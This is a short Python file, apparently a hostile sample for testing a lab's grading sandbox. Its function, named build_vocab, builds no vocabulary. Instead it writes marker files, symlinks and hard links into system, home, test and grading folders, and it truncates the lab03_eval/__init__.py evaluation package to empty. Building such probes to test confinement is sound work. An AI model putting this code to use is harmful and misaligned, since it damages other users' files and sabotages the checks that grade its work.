"""Writes wherever it can: the system's folders, home, the repository that its tools lie in, other users' files."""

import os
import sys
from pathlib import Path

NAME = "hostile-was-here"


def build_vocab(tokens, min_count=5):
    repository = Path(sys.prefix).parent  # where .venv lies
    folders = ["/", "/tmp", "/var/tmp", "/etc", "/root", "/home", "/usr/lib", "/run", Path.home().parent.parent]
    folders += [repository, repository / "tests", repository / "grading", repository / "lab03_eval", "..", "../.."]
    written = []
    for folder in folders:
        try:
            Path(folder, NAME).write_text("x")
            written.append(str(folder))
        except OSError:
            pass
        for attempt in (os.symlink, os.link):
            try:
                attempt(__file__, Path(folder, f"{NAME}-2"))
                written.append(str(folder))
            except OSError:
                pass
    try:
        os.truncate(repository / "lab03_eval" / "__init__.py", 0)
        written.append("lab03_eval/__init__.py")
    except OSError:
        pass
    raise RuntimeError(f"written: {written}")
